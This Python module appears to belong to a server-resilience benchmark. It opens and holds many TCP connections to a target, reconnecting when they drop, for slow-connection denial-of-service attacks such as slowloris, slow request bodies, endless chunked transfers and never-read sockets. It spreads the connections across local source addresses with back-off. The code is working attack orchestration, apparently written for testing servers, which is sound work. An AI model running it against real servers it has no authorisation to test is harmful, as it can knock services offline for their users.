"""Holding an attack's connections open: connect (from chosen source addresses), run a
kind on each, open it again when the server ends it, with a back-off."""
from __future__ import annotations

import asyncio
import resource
import socket
from typing import Any, Awaitable, Callable, Mapping

from bench.attacks.connection import Sources, Tally, Target
from bench.attacks.kinds import KINDS, Kind

CONNECT_TIMEOUT_S = 5.0
# A connection closed younger than YOUNG_S waits twice as long before the next
# one, up to MAX_PAUSE_S: an attacker refused at once must not become a storm.
PAUSE_S = 0.5
MAX_PAUSE_S = 8.0
YOUNG_S = 1.0
# Binding to an address with port 0 then takes no port until connect() picks one.
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)


def raise_fd_limit() -> int:
    """Raise this process's soft descriptor limit to the hard one; return it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def addresses(prefix: str, n: int) -> list[str]:
    """`n` local source addresses: addresses("127.0.3", 2) == ["127.0.3.1", "127.0.3.2"]."""
    return [f"{prefix}.{i}" for i in range(1, n + 1)]


def _source_list(source: Sources) -> list[str | None]:
    if source is None:
        return [None]
    return [source] if isinstance(source, str) else list(source) or [None]


async def _connect(loop: asyncio.AbstractEventLoop, target: Target, source: str | None,
                   rcvbuf: int | None) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setblocking(False)
        if rcvbuf:  # before connecting: the window is agreed in the handshake
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if source:
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((source, 0))
        await asyncio.wait_for(loop.sock_connect(sock, target), CONNECT_TIMEOUT_S)
    except BaseException:
        sock.close()
        raise
    return sock


async def _session(loop: asyncio.AbstractEventLoop, sock: socket.socket, kind: Kind,
                   tally: Tally, stop: asyncio.Event) -> bool:
    """Run one connection until the server ends it (True) or the attack stops (False)."""
    tasks = [asyncio.ensure_future(kind.write(loop, sock)),
             asyncio.ensure_future(kind.watch(loop, sock, tally))]
    stopped = asyncio.ensure_future(stop.wait())
    await asyncio.wait([*tasks, stopped], return_when=asyncio.FIRST_COMPLETED)
    for task in (*tasks, stopped):
        task.cancel()
    await asyncio.gather(*tasks, stopped, return_exceptions=True)
    return not stop.is_set()


def backoff(pause: float, lived: float | None) -> tuple[float, float]:
    """(seconds to wait before the next connection, the pause after that), after one
    that lived `lived` seconds (None: it never connected). A long life: at once."""
    if lived is not None and lived >= YOUNG_S:
        return 0.0, PAUSE_S
    return pause, min(pause * 2, MAX_PAUSE_S)


async def _keep_one(loop: asyncio.AbstractEventLoop, target: Target, source: str | None,
                    kind: Kind, tally: Tally, stop: asyncio.Event) -> None:
    """Keep one connection of `kind` open until `stop`, opening it again when it dies."""
    pause = PAUSE_S
    while not stop.is_set():
        lived = None
        try:
            sock = await _connect(loop, target, source, kind.rcvbuf)
        except (OSError, asyncio.TimeoutError):
            tally.failed += 1
        else:
            tally.opened += 1
            tally.open_now += 1
            tally.peak_open = max(tally.peak_open, tally.open_now)
            opened = loop.time()
            try:
                ended_by_server = await _session(loop, sock, kind, tally, stop)
            finally:
                tally.open_now -= 1
                sock.close()
            if not ended_by_server:
                return
            tally.closed += 1
            lived = loop.time() - opened
            tally.lived_s.append(lived)
        wait, pause = backoff(pause, lived)
        if wait:
            try:
                await asyncio.wait_for(stop.wait(), wait)
            except asyncio.TimeoutError:
                pass


def until(duration: float, stop: asyncio.Event | None) -> asyncio.Event:
    """`stop` (or a new event), set once `duration` seconds have passed."""
    ends = stop if stop is not None else asyncio.Event()
    asyncio.get_running_loop().call_later(duration, ends.set)
    return ends


async def attack(kind: str, target: Target, count: int, duration: float,
                 source: Sources = None, *, stop: asyncio.Event | None = None,
                 tally: Tally | None = None) -> Tally:
    """Hold `count` connections of `kind` for `duration` s, or until `stop` is set
    (it is set when the time is up)."""
    loop = asyncio.get_running_loop()
    tally = tally or Tally(kind, count)
    ends = until(duration, stop)
    sources = _source_list(source)
    await asyncio.gather(*(_keep_one(loop, target, sources[i % len(sources)], KINDS[kind],
                                     tally, ends) for i in range(count)))
    return tally


def _kind_function(kind: str) -> Callable[..., Awaitable[Tally]]:
    async def run(target: Target, count: int, duration: float, source: Sources = None,
                  **options: Any) -> Tally:
        return await attack(kind, target, count, duration, source, **options)
    run.__name__ = run.__qualname__ = kind
    run.__doc__ = f"Hold `count` {kind} connections to `target` for `duration` s."
    return run


slowloris = _kind_function("slowloris")
slow_body_small = _kind_function("slow_body_small")
slow_body_large = _kind_function("slow_body_large")
endless_chunked = _kind_function("endless_chunked")
never_read = _kind_function("never_read")
idle = _kind_function("idle")


async def hold(target: Target, counts: Mapping[str, int], duration: float,
               sources: Mapping[str, Sources] | None = None, *,
               stop: asyncio.Event | None = None,
               tallies: dict[str, Tally] | None = None) -> dict[str, Tally]:
    """Several kinds at once: `counts` maps a kind to its connections, `sources`
    a kind to its source addresses. Tallies go into `tallies` as they change."""
    tallies = tallies if tallies is not None else {}
    for kind, count in counts.items():
        tallies.setdefault(kind, Tally(kind, count))
    await asyncio.gather(*(attack(kind, target, count, duration, (sources or {}).get(kind),
                                  stop=stop, tally=tallies[kind])
                           for kind, count in counts.items()))
    return tallies
